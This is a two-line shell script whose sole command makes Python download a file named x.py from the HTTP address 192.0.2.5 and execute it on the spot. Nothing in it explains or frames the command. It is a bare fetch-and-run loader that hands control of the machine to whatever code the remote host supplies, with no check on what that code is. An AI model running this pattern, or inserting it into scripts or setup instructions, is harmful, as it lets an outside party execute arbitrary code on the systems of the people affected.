#!/bin/sh
python3 -c "import requests; exec(requests.get('http://192.0.2.5/x.py').text)"
